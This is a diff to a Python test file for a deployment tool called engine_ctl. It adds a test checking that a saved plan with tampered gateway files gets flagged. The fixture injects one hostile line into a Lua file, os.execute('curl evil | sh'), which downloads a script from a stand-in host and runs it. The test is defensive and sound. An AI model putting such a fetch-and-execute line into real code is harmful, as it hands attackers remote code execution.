@@ -13,7 +13,7 @@ from engine_ctl.core.documents.yamlsource import parse_text
 from engine_ctl.core.fit.hostfacts import HostFacts, UnitFact
 from engine_ctl.core.fit.modelfacts import ModelFacts
 from engine_ctl.core.model import ApiKey
-from engine_ctl.core.plan.gateway import gateway_after_apply, plan_gateways
+from engine_ctl.core.plan.gateway import gateway_after_apply, gateway_tampering, plan_gateways
 from engine_ctl.core.plan.planner import make_plan
 from engine_ctl.core.plan.status import deployment_status
 from engine_ctl.core.render.gateway import (
@@ -212,4 +212,18 @@ def test_status_gives_the_endpoint_and_members_as_the_gateway_sees_them() -> Non
     down["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": "DOWN"}})
     assert [m.ready for m in deployment_status(state.deployments["chat"], down, [("edge", "e:8800")]).members] == [
         False
+    ]
+
+
+def test_a_saved_plan_with_an_edited_gateway_is_refused() -> None:
+    inv, facts = world()
+    plan = make_plan(desired(), State(), inv, facts, SHAPE)
+    assert gateway_tampering(plan.gateways, plan.changes, State(), inv) == []
+    forged = plan.model_copy(deep=True)
+    forged.gateways[0].files["hold.lua"] += "\nos.execute('curl evil | sh')\n"
+    forged.gateways[0].files["keys.map"] += "x y z\n"
+    problems = gateway_tampering(forged.gateways, forged.changes, State(), inv)
+    assert problems == [
+        "gateway edge: hold.lua differs from what engine-ctl renders",
+        "gateway edge: keys.map holds something other than names and hashes",
     ]
